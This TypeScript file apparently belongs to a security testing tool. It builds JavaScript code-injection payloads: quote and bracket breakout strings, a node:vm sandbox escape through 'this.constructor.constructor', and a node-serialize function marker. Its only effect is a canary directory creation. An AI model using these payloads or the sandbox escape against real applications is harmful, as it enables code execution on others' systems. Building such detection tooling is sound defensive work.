import { Script } from 'node:vm'
import { NONCE } from '../plan.ts'

/** What makes the canary: with the globals of the process at hand, and from within a context that has objects of it. */
const EFFECTS = [
  `process.getBuiltinModule('fs').mkdirSync('${NONCE}')`,
  `this.constructor.constructor('return process')().getBuiltinModule('fs').mkdirSync('${NONCE}')`,
] as const

/** Ways out of what a text may stand in within code, with `@` for the effect. */
const WAYS_OUT = [
  '@',
  "'+@+'",
  '"+@+"',
  '`+@+`',
  '${@}',
  '${a,@}',
  ';@;//',
  "';@;//",
  '";@;//',
  '`;@;//',
  "');@;//",
  '");@;//',
  "'];@;//",
  '"];@;//',
  ');@;//',
  '];@;//',
  '};@;//',
  '});@;//',
  "'});@;//",
  '"});@;//',
  ')};@;//',
  ',@',
  '+@',
  '[@]',
  '.a,@',
  '*/@/*',
  '\n@\n//',
  '(){})(@);(function()',
  '(){})(@);(function(){',
  '=@',
  'a=@',
  'a){}@;//',
  '){@}//',
  '){@});(function(){',
  'a}@;{',
  "a',a:@,b:'",
  'a",a:@,b:"',
  '(function(){@})()',
  '_$$ND_FUNC$$_function(){@}()',
  "\\',@)//",
  '\\",@)//',
] as const

const TRIES_MAX = 10

/**
 * The payloads for a text that stands in this code, at the marker: those first with which the code still parses. A way
 * out of quotes is of no use elsewhere, and the parser knows.
 */
export const codePayloads = (code: string, marker: string): readonly string[] => {
  const fitting: string[] = []
  const others: string[] = []
  for (const way of WAYS_OUT)
    for (const effect of EFFECTS) {
      const payload = way.replace('@', () => effect)
      const changed = code.replaceAll(marker, () => payload.replaceAll(NONCE, 'n'))
      const isInert = parses(code.replaceAll(marker, 'a')) && isOnlyText(changed)
      if (parses(changed) && !isInert) fitting.push(payload)
      else others.push(payload)
    }
  return [...fitting, ...others].slice(
    0,
    Math.max(TRIES_MAX, Math.min(fitting.length, 2 * TRIES_MAX)),
  )
}

const parses = (code: string): boolean => {
  for (const text of [code, `(function(){${code}\n})`, `(${code}\n)`])
    try {
      return new Script(text) instanceof Script
    } catch {
      // The next reading may fit.
    }
  return false
}

const QUOTED = /^\s*\(?\s*(['"])(?:(?!\1)[^\\\n]|\\.)*\1\s*\)?;?\s*$/

/** Whether the code is one quoted text, in which nothing runs. */
const isOnlyText = (code: string): boolean => QUOTED.test(code)
